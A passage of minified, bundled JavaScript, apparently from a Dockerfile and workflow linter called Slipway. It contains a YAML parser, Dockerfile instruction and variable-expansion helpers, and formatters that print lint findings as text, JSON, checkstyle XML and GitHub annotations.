+`?yield*this.pushCount(2):0}*pushSpaces(e){let t=this.pos-1,s;do s=this.buffer[++t];while(s===" "||e&&s==="	");let i=t-this.pos;return i>0&&(yield this.buffer.substr(this.pos,i),this.pos=t),i}*pushUntil(e){let t=this.pos,s=this.buffer[t];for(;!e(s);)s=this.buffer[++t];return yield*this.pushToIndex(t,!1)}};mh.Lexer=Lu});var ju=x(hh=>{"use strict";var Tu=class{constructor(){this.lineStarts=[],this.addNewLine=e=>this.lineStarts.push(e),this.linePos=e=>{let t=0,s=this.lineStarts.length;for(;t<s;){let r=t+s>>1;this.lineStarts[r]<e?t=r+1:s=r}if(this.lineStarts[t]===e)return{line:t+1,col:1};if(t===0)return{line:0,col:e};let i=this.lineStarts[t-1];return{line:t,col:e-i+1}}}};hh.LineCounter=Tu});var $u=x(kh=>{"use strict";var OA=require("process"),yh=ao(),SA=Du();function Rt(n,e){for(let t=0;t<n.length;++t)if(n[t].type===e)return!0;return!1}function bh(n){for(let e=0;e<n.length;++e)switch(n[e].type){case"space":case"comment":case"newline":break;default:return e}return-1}function vh(n){switch(n?.type){case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"flow-collection":return!0;default:return!1}}function lo(n){switch(n.type){case"document":return n.start;case"block-map":{let e=n.items[n.items.length-1];return e.sep??e.start}case"block-seq":return n.items[n.items.length-1].start;default:return[]}}function Cn(n){if(n.length===0)return[];let e=n.length;e:for(;--e>=0;)switch(n[e].type){case"doc-start":case"explicit-key-ind":case"map-value-ind":case"seq-item-ind":case"newline":break e}for(;n[++e]?.type==="space";);return n.splice(e,n.length)}function uo(n,e){if(e.length<1e5)Array.prototype.push.apply(n,e);else for(let t=0;t<e.length;++t)n.push(e[t])}function wh(n){if(n.start.type==="flow-seq-start")for(let e of n.items)e.sep&&!e.value&&!Rt(e.start,"explicit-key-ind")&&!Rt(e.sep,"map-value-ind")&&(e.key&&(e.value=e.key),delete e.key,vh(e.value)?e.value.end?uo(e.value.end,e.sep):e.value.end=e.sep:uo(e.start,e.sep),delete e.sep)}var _u=class{constructor(e){this.atNewLine=!0,this.atScalar=!1,this.indent=0,this.offset=0,this.onKeyLine=!1,this.stack=[],this.source="",this.type="",this.lexer=new SA.Lexer,this.onNewLine=e}*parse(e,t=!1){this.onNewLine&&this.offset===0&&this.onNewLine(0);for(let s of this.lexer.lex(e,t))yield*this.next(s);t||(yield*this.end())}*next(e){if(this.source=e,OA.env.LOG_TOKENS&&console.log("|",yh.prettyToken(e)),this.atScalar){this.atScalar=!1,yield*this.step(),this.offset+=e.length;return}let t=yh.tokenType(e);if(t)if(t==="scalar")this.atNewLine=!1,this.atScalar=!0,this.type="scalar";else{switch(this.type=t,yield*this.step(),t){case"newline":this.atNewLine=!0,this.indent=0,this.onNewLine&&this.onNewLine(this.offset+e.length);break;case"space":this.atNewLine&&e[0]===" "&&(this.indent+=e.length);break;case"explicit-key-ind":case"map-value-ind":case"seq-item-ind":this.atNewLine&&(this.indent+=e.length);break;case"doc-mode":case"flow-error-end":return;default:this.atNewLine=!1}this.offset+=e.length}else{let s=`Not a YAML token: ${e}`;yield*this.pop({type:"error",offset:this.offset,message:s,source:e}),this.offset+=e.length}}*end(){for(;this.stack.length>0;)yield*this.pop()}get sourceToken(){return{type:this.type,offset:this.offset,indent:this.indent,source:this.source}}*step(){let e=this.peek(1);if(this.type==="doc-end"&&e?.type!=="doc-end"){for(;this.stack.length>0;)yield*this.pop();this.stack.push({type:"doc-end",offset:this.offset,source:this.source});return}if(!e)return yield*this.stream();switch(e.type){case"document":return yield*this.document(e);case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return yield*this.scalar(e);case"block-scalar":return yield*this.blockScalar(e);case"block-map":return yield*this.blockMap(e);case"block-seq":return yield*this.blockSequence(e);case"flow-collection":return yield*this.flowCollection(e);case"doc-end":return yield*this.documentEnd(e)}yield*this.pop()}peek(e){return this.stack[this.stack.length-e]}*pop(e){let t=e??this.stack.pop();if(!t)yield{type:"error",offset:this.offset,source:"",message:"Tried to pop an empty stack"};else if(this.stack.length===0)yield t;else{let s=this.peek(1);switch(t.type==="block-scalar"?t.indent="indent"in s?s.indent:0:t.type==="flow-collection"&&s.type==="document"&&(t.indent=0),t.type==="flow-collection"&&wh(t),s.type){case"document":s.value=t;break;case"block-scalar":s.props.push(t);break;case"block-map":{let i=s.items[s.items.length-1];if(i.value){s.items.push({start:[],key:t,sep:[]}),this.onKeyLine=!0;return}else if(i.sep)i.value=t;else{Object.assign(i,{key:t,sep:[]}),this.onKeyLine=!i.explicitKey;return}break}case"block-seq":{let i=s.items[s.items.length-1];i.value?s.items.push({start:[],value:t}):i.value=t;break}case"flow-collection":{let i=s.items[s.items.length-1];!i||i.value?s.items.push({start:[],key:t,sep:[]}):i.sep?i.value=t:Object.assign(i,{key:t,sep:[]});return}default:yield*this.pop(),yield*this.pop(t)}if((s.type==="document"||s.type==="block-map"||s.type==="block-seq")&&(t.type==="block-map"||t.type==="block-seq")){let i=t.items[t.items.length-1];i&&!i.sep&&!i.value&&i.start.length>0&&bh(i.start)===-1&&(t.indent===0||i.start.every(r=>r.type!=="comment"||r.indent<t.indent))&&(s.type==="document"?s.end=i.start:s.items.push({start:i.start}),t.items.splice(-1,1))}}}*stream(){switch(this.type){case"directive-line":yield{type:"directive",offset:this.offset,source:this.source};return;case"byte-order-mark":case"space":case"comment":case"newline":yield this.sourceToken;return;case"doc-mode":case"doc-start":{let e={type:"document",offset:this.offset,start:[]};this.type==="doc-start"&&e.start.push(this.sourceToken),this.stack.push(e);return}}yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token in YAML stream`,source:this.source}}*document(e){if(e.value)return yield*this.lineEnd(e);switch(this.type){case"doc-start":{bh(e.start)!==-1?(yield*this.pop(),yield*this.step()):e.start.push(this.sourceToken);return}case"anchor":case"tag":case"space":case"comment":case"newline":e.start.push(this.sourceToken);return}let t=this.startBlockValue(e);t?this.stack.push(t):yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token in YAML document`,source:this.source}}*scalar(e){if(this.type==="map-value-ind"){let t=lo(this.peek(2)),s=Cn(t),i;e.end?(i=e.end,i.push(this.sourceToken),delete e.end):i=[this.sourceToken];let r={type:"block-map",offset:e.offset,indent:e.indent,items:[{start:s,key:e,sep:i}]};this.onKeyLine=!0,this.stack[this.stack.length-1]=r}else yield*this.lineEnd(e)}*blockScalar(e){switch(this.type){case"space":case"comment":case"newline":e.props.push(this.sourceToken);return;case"scalar":if(e.source=this.source,this.atNewLine=!0,this.indent=0,this.onNewLine){let t=this.source.indexOf(`
+`)+1;for(;t!==0;)this.onNewLine(this.offset+t),t=this.source.indexOf(`
+`,t)+1}yield*this.pop();break;default:yield*this.pop(),yield*this.step()}}*blockMap(e){let t=e.items[e.items.length-1];switch(this.type){case"newline":if(this.onKeyLine=!1,t.value){let s="end"in t.value?t.value.end:void 0;(Array.isArray(s)?s[s.length-1]:void 0)?.type==="comment"?s?.push(this.sourceToken):e.items.push({start:[this.sourceToken]})}else t.sep?t.sep.push(this.sourceToken):t.start.push(this.sourceToken);return;case"space":case"comment":if(t.value)e.items.push({start:[this.sourceToken]});else if(t.sep)t.sep.push(this.sourceToken);else{if(this.atIndentedComment(t.start,e.indent)){let i=e.items[e.items.length-2]?.value?.end;if(Array.isArray(i)){uo(i,t.start),i.push(this.sourceToken),e.items.pop();return}}t.start.push(this.sourceToken)}return}if(this.indent>=e.indent){let s=!this.onKeyLine&&this.indent===e.indent,i=s&&(t.sep||t.explicitKey)&&this.type!=="seq-item-ind",r=[];if(i&&t.sep&&!t.value){let o=[];for(let a=0;a<t.sep.length;++a){let c=t.sep[a];switch(c.type){case"newline":o.push(a);break;case"space":break;case"comment":c.indent>e.indent&&(o.length=0);break;default:o.length=0}}o.length>=2&&(r=t.sep.splice(o[1]))}switch(this.type){case"anchor":case"tag":i||t.value?(r.push(this.sourceToken),e.items.push({start:r}),this.onKeyLine=!0):t.sep?t.sep.push(this.sourceToken):t.start.push(this.sourceToken);return;case"explicit-key-ind":!t.sep&&!t.explicitKey?(t.start.push(this.sourceToken),t.explicitKey=!0):i||t.value?(r.push(this.sourceToken),e.items.push({start:r,explicitKey:!0})):this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken],explicitKey:!0}]}),this.onKeyLine=!0;return;case"map-value-ind":if(t.explicitKey)if(t.sep)if(t.value)e.items.push({start:[],key:null,sep:[this.sourceToken]});else if(Rt(t.sep,"map-value-ind"))this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:r,key:null,sep:[this.sourceToken]}]});else if(vh(t.key)&&!Rt(t.sep,"newline")){let o=Cn(t.start),a=t.key,c=t.sep;c.push(this.sourceToken),delete t.key,delete t.sep,this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:o,key:a,sep:c}]})}else r.length>0?t.sep=t.sep.concat(r,this.sourceToken):t.sep.push(this.sourceToken);else if(Rt(t.start,"newline"))Object.assign(t,{key:null,sep:[this.sourceToken]});else{let o=Cn(t.start);this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:o,key:null,sep:[this.sourceToken]}]})}else t.sep?t.value||i?e.items.push({start:r,key:null,sep:[this.sourceToken]}):Rt(t.sep,"map-value-ind")?this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:[],key:null,sep:[this.sourceToken]}]}):t.sep.push(this.sourceToken):Object.assign(t,{key:null,sep:[this.sourceToken]});this.onKeyLine=!0;return;case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let o=this.flowScalar(this.type);i||t.value?(e.items.push({start:r,key:o,sep:[]}),this.onKeyLine=!0):t.sep?this.stack.push(o):(Object.assign(t,{key:o,sep:[]}),this.onKeyLine=!0);return}default:{let o=this.startBlockValue(e);if(o){if(o.type==="block-seq"){if(!t.explicitKey&&t.sep&&!Rt(t.sep,"newline")){yield*this.pop({type:"error",offset:this.offset,message:"Unexpected block-seq-ind on same line with key",source:this.source});return}}else s&&e.items.push({start:r});this.stack.push(o);return}}}}yield*this.pop(),yield*this.step()}*blockSequence(e){let t=e.items[e.items.length-1];switch(this.type){case"newline":if(t.value){let s="end"in t.value?t.value.end:void 0;(Array.isArray(s)?s[s.length-1]:void 0)?.type==="comment"?s?.push(this.sourceToken):e.items.push({start:[this.sourceToken]})}else t.start.push(this.sourceToken);return;case"space":case"comment":if(t.value)e.items.push({start:[this.sourceToken]});else{if(this.atIndentedComment(t.start,e.indent)){let i=e.items[e.items.length-2]?.value?.end;if(Array.isArray(i)){uo(i,t.start),i.push(this.sourceToken),e.items.pop();return}}t.start.push(this.sourceToken)}return;case"anchor":case"tag":if(t.value||this.indent<=e.indent)break;t.start.push(this.sourceToken);return;case"seq-item-ind":if(this.indent!==e.indent)break;t.value||Rt(t.start,"seq-item-ind")?e.items.push({start:[this.sourceToken]}):t.start.push(this.sourceToken);return}if(this.indent>e.indent){let s=this.startBlockValue(e);if(s){this.stack.push(s);return}}yield*this.pop(),yield*this.step()}*flowCollection(e){let t=e.items[e.items.length-1];if(this.type==="flow-error-end"){let s;do yield*this.pop(),s=this.peek(1);while(s?.type==="flow-collection")}else if(e.end.length===0){switch(this.type){case"comma":case"explicit-key-ind":!t||t.sep?e.items.push({start:[this.sourceToken]}):t.start.push(this.sourceToken);return;case"map-value-ind":!t||t.value?e.items.push({start:[],key:null,sep:[this.sourceToken]}):t.sep?t.sep.push(this.sourceToken):Object.assign(t,{key:null,sep:[this.sourceToken]});return;case"space":case"comment":case"newline":case"anchor":case"tag":!t||t.value?e.items.push({start:[this.sourceToken]}):t.sep?t.sep.push(this.sourceToken):t.start.push(this.sourceToken);return;case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let i=this.flowScalar(this.type);!t||t.value?e.items.push({start:[],key:i,sep:[]}):t.sep?this.stack.push(i):Object.assign(t,{key:i,sep:[]});return}case"flow-map-end":case"flow-seq-end":e.end.push(this.sourceToken);return}let s=this.startBlockValue(e);s?this.stack.push(s):(yield*this.pop(),yield*this.step())}else{let s=this.peek(2);if(s.type==="block-map"&&(this.type==="map-value-ind"&&s.indent===e.indent||this.type==="newline"&&!s.items[s.items.length-1].sep))yield*this.pop(),yield*this.step();else if(this.type==="map-value-ind"&&s.type!=="flow-collection"){let i=lo(s),r=Cn(i);wh(e);let o=e.end.splice(1,e.end.length);o.push(this.sourceToken);let a={type:"block-map",offset:e.offset,indent:e.indent,items:[{start:r,key:e,sep:o}]};this.onKeyLine=!0,this.stack[this.stack.length-1]=a}else yield*this.lineEnd(e)}}flowScalar(e){if(this.onNewLine){let t=this.source.indexOf(`
+`)+1;for(;t!==0;)this.onNewLine(this.offset+t),t=this.source.indexOf(`
+`,t)+1}return{type:e,offset:this.offset,indent:this.indent,source:this.source}}startBlockValue(e){switch(this.type){case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":return this.flowScalar(this.type);case"block-scalar-header":return{type:"block-scalar",offset:this.offset,indent:this.indent,props:[this.sourceToken],source:""};case"flow-map-start":case"flow-seq-start":return{type:"flow-collection",offset:this.offset,indent:this.indent,start:this.sourceToken,items:[],end:[]};case"seq-item-ind":return{type:"block-seq",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken]}]};case"explicit-key-ind":{this.onKeyLine=!0;let t=lo(e),s=Cn(t);return s.push(this.sourceToken),{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:s,explicitKey:!0}]}}case"map-value-ind":{this.onKeyLine=!0;let t=lo(e),s=Cn(t);return{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:s,key:null,sep:[this.sourceToken]}]}}}return null}atIndentedComment(e,t){return this.type!=="comment"||this.indent<=t?!1:e.every(s=>s.type==="newline"||s.type==="space")}*documentEnd(e){this.type!=="doc-mode"&&(e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop()))}*lineEnd(e){switch(this.type){case"comma":case"doc-start":case"doc-end":case"flow-seq-end":case"flow-map-end":case"map-value-ind":yield*this.pop(),yield*this.step();break;case"newline":this.onKeyLine=!1;default:e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop())}}};kh.Parser=_u});var Mh=x(Ps=>{"use strict";var xh=Ru(),MA=Fs(),Is=Ds(),AA=kl(),NA=I(),EA=ju(),Rh=$u();function Oh(n){let e=n.prettyErrors!==!1;return{lineCounter:n.lineCounter||e&&new EA.LineCounter||null,prettyErrors:e}}function FA(n,e={}){let{lineCounter:t,prettyErrors:s}=Oh(e),i=new Rh.Parser(t?.addNewLine),r=new xh.Composer(e),o=Array.from(r.compose(i.parse(n)));if(s&&t)for(let a of o)a.errors.forEach(Is.prettifyError(n,t)),a.warnings.forEach(Is.prettifyError(n,t));return o.length>0?o:Object.assign([],{empty:!0},r.streamInfo())}function Sh(n,e={}){let{lineCounter:t,prettyErrors:s}=Oh(e),i=new Rh.Parser(t?.addNewLine),r=new xh.Composer(e),o=null;for(let a of r.compose(i.parse(n),!0,n.length))if(!o)o=a;else if(o.options.logLevel!=="silent"){o.errors.push(new Is.YAMLParseError(a.range.slice(0,2),"MULTIPLE_DOCS","Source contains multiple documents; please use YAML.parseAllDocuments()"));break}return s&&t&&(o.errors.forEach(Is.prettifyError(n,t)),o.warnings.forEach(Is.prettifyError(n,t))),o}function CA(n,e,t){let s;typeof e=="function"?s=e:t===void 0&&e&&typeof e=="object"&&(t=e);let i=Sh(n,t);if(!i)return null;if(i.warnings.forEach(r=>AA.warn(i.options.logLevel,r)),i.errors.length>0){if(i.options.logLevel!=="silent")throw i.errors[0];i.errors=[]}return i.toJS(Object.assign({reviver:s},t))}function LA(n,e,t){let s=null;if(typeof e=="function"||Array.isArray(e)?s=e:t===void 0&&e&&(t=e),typeof t=="string"&&(t=t.length),typeof t=="number"){let i=Math.round(t);t=i<1?void 0:i>8?{indent:8}:{indent:i}}if(n===void 0){let{keepUndefined:i}=t??e??{};if(!i)return}return NA.isDocument(n)&&!s?n.toString(t):new MA.Document(n,s,t).toString(t)}Ps.parse=CA;Ps.parseAllDocuments=FA;Ps.parseDocument=Sh;Ps.stringify=LA});var ke=x(Y=>{"use strict";var DA=Ru(),TA=Fs(),jA=su(),Iu=Ds(),_A=gs(),Ot=I(),$A=wt(),IA=Q(),PA=kt(),qA=xt(),UA=ao(),HA=Du(),YA=ju(),BA=$u(),po=Mh(),Ah=us();Y.Composer=DA.Composer;Y.Document=TA.Document;Y.Schema=jA.Schema;Y.YAMLError=Iu.YAMLError;Y.YAMLParseError=Iu.YAMLParseError;Y.YAMLWarning=Iu.YAMLWarning;Y.Alias=_A.Alias;Y.isAlias=Ot.isAlias;Y.isCollection=Ot.isCollection;Y.isDocument=Ot.isDocument;Y.isMap=Ot.isMap;Y.isNode=Ot.isNode;Y.isPair=Ot.isPair;Y.isScalar=Ot.isScalar;Y.isSeq=Ot.isSeq;Y.Pair=$A.Pair;Y.Scalar=IA.Scalar;Y.YAMLMap=PA.YAMLMap;Y.YAMLSeq=qA.YAMLSeq;Y.CST=UA;Y.Lexer=HA.Lexer;Y.LineCounter=YA.LineCounter;Y.Parser=BA.Parser;Y.parse=po.parse;Y.parseAllDocuments=po.parseAllDocuments;Y.parseDocument=po.parseDocument;Y.stringify=po.stringify;Y.visit=Ah.visit;Y.visitAsync=Ah.visitAsync});var x0={};Lo(x0,{getInput:()=>Kt,runAction:()=>Gy});module.exports=me(x0);var Xt=U(require("node:fs")),Ft=U(require("node:path"));var Do={error:0,warning:1,info:2,hint:3},dp={trustedRegistries:[],runnerLabels:[],labelSchema:{},strictLabels:!1,buildArgs:{}},Zy="https://github.com/slipway-dev/slipway/blob/main/docs/rules/";function Zt(n){return`${Zy}${n}.md`}function Un(n){let e=[n.id,n.compat?.hadolint,n.compat?.buildkit,n.compat?.actionlint,...n.aliases??[]];return[...new Set(e.filter(t=>!!t))]}function Qt(){return{severities:new Map,enabled:new Set,options:{...dp},failureThreshold:"error"}}var Qy={error:"error",warning:"warning",warn:"warning",info:"info",information:"info",hint:"hint",style:"hint",off:"off",none:"off",ignore:"off"};function en(n){if(typeof n=="string")return Qy[n.trim().toLowerCase()]}function Hn(n,e){let t=new Map(n.severities);for(let[i,r]of e.severities??[])t.set(i.toLowerCase(),r);let s=new Set(n.enabled);for(let i of e.enabled??[])s.add(i.toLowerCase());return{severities:t,enabled:s,options:{...n.options,...e.options??{}},failureThreshold:e.failureThreshold??n.failureThreshold}}var tn=U(require("node:path"));function nn(n,e){return n.display??zs(n.path,e)}var eb={error:"\x1B[31m",warning:"\x1B[33m",info:"\x1B[36m",hint:"\x1B[2m"};function zs(n,e){let t=tn.relative(e,n);return t&&!t.startsWith("..")&&!tn.isAbsolute(t)?t.split(tn.sep).join("/"):n}function fp(n,e,t){let s=[];for(let i of n){let r=nn(i,e);i.error&&s.push(`${r}: error: ${i.error}`);for(let o of i.findings){let a=t?`${eb[o.severity]}${o.severity}\x1B[0m`:o.severity;s.push(`${r}:${o.range.start.line+1}:${o.range.start.character+1}: ${a} ${o.message} [${o.rule}]`)}}return s.push(To(n)),s.join(`
+`)+`
+`}function To(n){let e={error:0,warning:0,info:0,hint:0};for(let i of n)for(let r of i.findings)e[r.severity]++;let t=e.error+e.warning+e.info+e.hint,s=`${n.length} file${n.length===1?"":"s"} checked`;return t===0?`${s}, no problems`:`${s}: ${e.error} error${e.error===1?"":"s"}, ${e.warning} warning${e.warning===1?"":"s"}, ${e.info} info, ${e.hint} hint${e.hint===1?"":"s"}`}function gp(n,e){let t=n.map(s=>({file:nn(s,e),language:s.language,...s.error?{error:s.error}:{},findings:s.findings.map(i=>({rule:i.rule,severity:i.severity,message:i.message,line:i.range.start.line+1,column:i.range.start.character+1,endLine:i.range.end.line+1,endColumn:i.range.end.character+1,docs:Zt(i.rule),fixable:!!i.fixes?.length}))}));return JSON.stringify(t,null,2)+`
+`}var tb={error:"error",warning:"warning",info:"info",hint:"info"};function nb(n){let e="";for(let t of n){let s=t.codePointAt(0);t==="&"?e+="&amp;":t==="<"?e+="&lt;":t===">"?e+="&gt;":t==='"'?e+="&quot;":t==="'"?e+="&apos;":s===9?e+="&#9;":s===10?e+="&#10;":s===13?e+="&#13;":s<32||s>=55296&&s<=57343||s===65534||s===65535?e+="\uFFFD":e+=t}return e}function Yn(n){return n.map(([e,t])=>`${e}="${nb(String(t))}"`).join(" ")}function mp(n,e){let t=['<?xml version="1.0" encoding="UTF-8"?>','<checkstyle version="4.3">'];for(let s of e.errors)t.push(`  <file ${Yn([["name",""]])}>`,`    <error ${Yn([["line",1],["column",1],["severity","error"],["message",s],["source","slipway"]])}/>`,"  </file>");for(let s of n){t.push(`  <file ${Yn([["name",nn(s,e.cwd)]])}>`),s.error&&t.push(`    <error ${Yn([["line",1],["column",1],["severity","error"],["message",`cannot read: ${s.error}`],["source","slipway"]])}/>`);for(let i of s.findings)t.push(`    <error ${Yn([["line",i.range.start.line+1],["column",i.range.start.character+1],["severity",tb[i.severity]],["message",i.message],["source",i.rule]])}/>`);t.push("  </file>")}return t.push("</checkstyle>"),t.join(`
+`)+`
+`}var sb={error:"error",warning:"warning",info:"notice",hint:"notice"};function sn(n){return n.replace(/%/g,"%25").replace(/\r/g,"%0D").replace(/\n/g,"%0A")}function ib(n){return sn(n).replace(/:/g,"%3A").replace(/,/g,"%2C")}function jo(n,e,t){let s=e.map(([i,r])=>`${i}=${ib(String(r))}`).join(",");return`::${n}${s?" "+s:""}::${sn(t)}`}function hp(n,e){let t=[];for(let s of e.errors)t.push(jo("error",[["title","Slipway"]],s));for(let s of n){let i=nn(s,e.cwd);s.error&&t.push(jo("error",[["file",i],["title","Slipway"]],`cannot read ${i}: ${s.error}`));for(let r of s.findings){let{start:o,end:a}=r.range,l=a.line>o.line||a.line===o.line&&a.character>=o.character?a:o;t.push(jo(sb[r.severity],[["file",i],["line",o.line+1],["col",o.character+1],["endLine",l.line+1],["endColumn",l.character+1],["title",`${r.rule} (Slipway)`]],`${r.message}
+${Zt(r.rule)}`))}}return t.push(To(n)),t.join(`
+`)+`
+`}var Gs=U(require("node:path")),ep=require("node:url");var No=U(require("node:fs"));function rb(n){let e=[0];for(let t=0;t<n.length;t++){let s=n.charCodeAt(t);s===13?(n.charCodeAt(t+1)===10&&t++,e.push(t+1)):s===10&&e.push(t+1)}return e}var rn=class{constructor(e){this.text=e;this.starts=rb(e)}text;starts;get lineCount(){return this.starts.length}positionAt(e){e=Math.max(0,Math.min(e,this.text.length));let t=0,s=this.starts.length-1;for(;t<s;){let i=t+s+1>>1;this.starts[i]<=e?t=i:s=i-1}return{line:t,character:e-this.starts[t]}}offsetAt(e){if(e.line>=this.starts.length)return this.text.length;if(e.line<0)return 0;let t=this.starts[e.line],s=e.line+1<this.starts.length?this.starts[e.line+1]:this.text.length;return Math.min(t+e.character,s)}range(e,t){return{start:this.positionAt(e),end:this.positionAt(t)}}lineText(e){let t=this.starts[e];if(t===void 0)return"";let s=e+1<this.starts.length?this.starts[e+1]:this.text.length;for(;s>t&&(this.text.charCodeAt(s-1)===10||this.text.charCodeAt(s-1)===13);)s--;return this.text.slice(t,s)}};function Js(n,e,t){return{start:{line:n,character:e},end:{line:n,character:t}}}function yp(n,e){return n.line-e.line||n.character-e.character}function ob(n,e,t=1/0){if(Math.abs(n.length-e.length)>t)return t+1;let s=new Array(e.length+1),i=new Array(e.length+1);for(let r=0;r<=e.length;r++)s[r]=r;for(let r=1;r<=n.length;r++){i[0]=r;let o=i[0];for(let a=1;a<=e.length;a++){let c=n.charCodeAt(r-1)===e.charCodeAt(a-1)?0:1;i[a]=Math.min(s[a]+1,i[a-1]+1,s[a-1]+c),i[a]<o&&(o=i[a])}if(o>t)return t+1;[s,i]=[i,s]}return s[e.length]}function se(n,e,t){let s=t??Math.max(1,Math.floor(n.length/3)),i,r=s+1,o=n.toLowerCase();for(let a of e){let c=ob(o,a.toLowerCase(),r);c<r&&(r=c,i=a)}return i}var Tp=U(Ye());var er=class{constructor(e){this.text=e;this.ast=Tp.DockerfileParser.parse(e),this.lines=new rn(e),this.escape=this.ast.getEscapeCharacter(),this.comments=this.ast.getComments();let t;for(let s of this.ast.getInstructions()){let i=s.getKeyword(),r={node:s,keyword:i,written:s.getInstruction(),range:s.getRange(),keywordRange:s.getInstructionRange(),stage:void 0,index:this.instructions.length};if(i==="FROM"){let o=s,a=o.getBuildStage()??void 0;t={index:this.stages.length,from:o,fromInstruction:r,name:a||void 0,nameRange:o.getBuildStageRange()??void 0,instructions:[]},this.stages.push(t)}r.stage=t,t?t.instructions.push(r):this.preamble.push(r),this.instructions.push(r)}this.checkDirective=Jw(this)}text;ast;lines;escape;instructions=[];stages=[];preamble=[];comments;checkDirective;memo=new Map;memoize(e,t){if(this.memo.has(e))return this.memo.get(e);let s=t();return this.memo.set(e,s),s}textOf(e){return this.text.slice(this.lines.offsetAt(e.start),this.lines.offsetAt(e.end))}findStage(e){let t=e.toLowerCase(),s=this.stages.find(i=>i.name?.toLowerCase()===t);if(s)return s;if(/^\d+$/.test(e))return this.stages[Number(e)]}};function Jw(n){for(let e=0;e<n.lines.lineCount;e++){let t=n.lines.lineText(e),s=/^\s*#\s*check\s*=\s*(.*?)\s*$/i.exec(t);if(s){let i={skip:new Set,skipAll:!1,error:!1,experimental:new Set,experimentalAll:!1,range:{start:{line:e,character:0},end:{line:e,character:t.length}}};for(let r of s[1].split(";")){let o=r.indexOf("=");if(o<0)continue;let a=r.slice(0,o).trim().toLowerCase(),c=r.slice(o+1).split(",").map(l=>l.trim()).filter(Boolean);if(a==="skip")for(let l of c)l.toLowerCase()==="all"?i.skipAll=!0:i.skip.add(l);else if(a==="error")i.error=c[0]?.toLowerCase()==="true";else if(a==="experimental")for(let l of c)l.toLowerCase()==="all"?i.experimentalAll=!0:i.experimental.add(l)}return i}if(!/^\s*#\s*[A-Za-z]+\s*=/.test(t))break}}var qc={BUILDPLATFORM:"linux/amd64",BUILDOS:"linux",BUILDARCH:"amd64",BUILDVARIANT:"",TARGETPLATFORM:"linux/amd64",TARGETOS:"linux",TARGETARCH:"amd64",TARGETVARIANT:""},Kw=new Set(["HTTP_PROXY","HTTPS_PROXY","FTP_PROXY","NO_PROXY","ALL_PROXY"].flatMap(n=>[n,n.toLowerCase()]));function tr(n){return Kw.has(n)||n.startsWith("BUILDKIT_")||n==="SOURCE_DATE_EPOCH"}function gn(n,e){return n.memoize(`logical:${e.index}`,()=>{let t=n.escape,s=e.keywordRange.end,i=s.line,r=n.lines.lineText(i).slice(s.character),o="",a=[],c=Math.max(e.range.end.line,i);for(;;){let l=Xw(r,t);if(l<0){o+=r;break}o+=r.slice(0,l);let u=i+1;for(;u<=c;){let p=n.lines.lineText(u);if(/^\s*$/.test(p))a.push(u),u++;else if(/^\s*#/.test(p))u++;else break}if(u>c||u>=n.lines.lineCount){i=Math.min(u,c);break}i=u,r=n.lines.lineText(i)}return{args:o,endLine:i,emptyContinuationLines:a}})}function Xw(n,e){let t=n.length;for(;t>0&&(n[t-1]===" "||n[t-1]==="	");)t--;if(t===0||n[t-1]!==e)return-1;let s=0;for(let i=t-1;i>=0&&n[i]===e;i--)s++;return s%2===1?t-1:-1}function nr(n,e){let t=[],s="",i="",r=!1;for(let o=0;o<n.length;o++){let a=n[o];if(r){s+=a,r=!1;continue}if(a===e){r=!0,s+=a;continue}if(i){a===i&&(i=""),s+=a;continue}if(a==='"'||a==="'"){i=a,s+=a;continue}if(a===" "||a==="	"){s&&t.push(s),s="";continue}s+=a}return s&&t.push(s),t}function mn(n,e){return n.memoize(`words:${e.index}`,()=>{let t=nr(gn(n,e).args,n.escape),s=[],i=0;for(;i<t.length;i++){let r=t[i];if(!r.startsWith("--")||r==="--")break;let o=r.indexOf("=");s.push(o<0?{name:r.slice(2),value:void 0}:{name:r.slice(2,o),value:r.slice(o+1)})}return{flags:s,words:t.slice(i)}})}function Be(n,e){return n.memoize(`kv:${e.index}`,()=>{let t=gn(n,e).args.trim(),s=nr(t,n.escape);if(e.keyword==="ARG")return{pairs:s.map(r=>{let o=r.indexOf("=");return o<0?{key:r,value:void 0}:{key:r.slice(0,o),value:r.slice(o+1)}}),legacy:!1};if(s.length===0)return{pairs:[],legacy:!1};if(!s[0].includes("=")){let r=s[0],o=t.slice(t.indexOf(r)+r.length).trim();return{pairs:[{key:r,value:o}],legacy:!0}}let i=[];for(let r of s){let o=r.indexOf("=");o<0?i.push({key:r,value:void 0}):i.push({key:r.slice(0,o),value:r.slice(o+1)})}return{pairs:i,legacy:!1}})}function dt(n,e){return Te(n,()=>{},e).result}function Te(n,e,t){let s=[],i=0,r=!1,o=()=>i<n.length?n[i]:"";function a(m,g){let h=e(m);return s.push({name:m,modifier:g,found:h!==void 0}),h}function c(){let m="";for(;i<n.length;){let g=n[i];if(m===""&&/[0-9]/.test(g)){for(;i<n.length&&/[0-9]/.test(n[i]);)m+=n[i++];return m}if(m===""&&"@*#?-$!0".includes(g))return i++,g;if(!/[\p{L}\p{N}_]/u.test(g))break;m+=g,i++}return m}function l(){if(i++,o()!=="{"){let k=c();return k===""?"$":/^[A-Za-z_]/.test(k)?a(k,"")??"":""}i++;let m=o();if(m===""||m==="{"||m==="}"||m===":")return r=!0,"";let g=c(),h=n[i++]??"";if(h==="}")return a(g,"")??"";let y=h,w=!1;if(h===":"&&(w=!0,h=n[i++]??"",y+=h),"+-?#%".includes(h)&&h!==""){let k=d("}"),v=a(g,y),O=v!==void 0;switch(h){case"-":return!O||w&&v===""?k:v;case"+":return!O||w&&v===""?"":k;case"?":return v??"";default:return v??""}}return 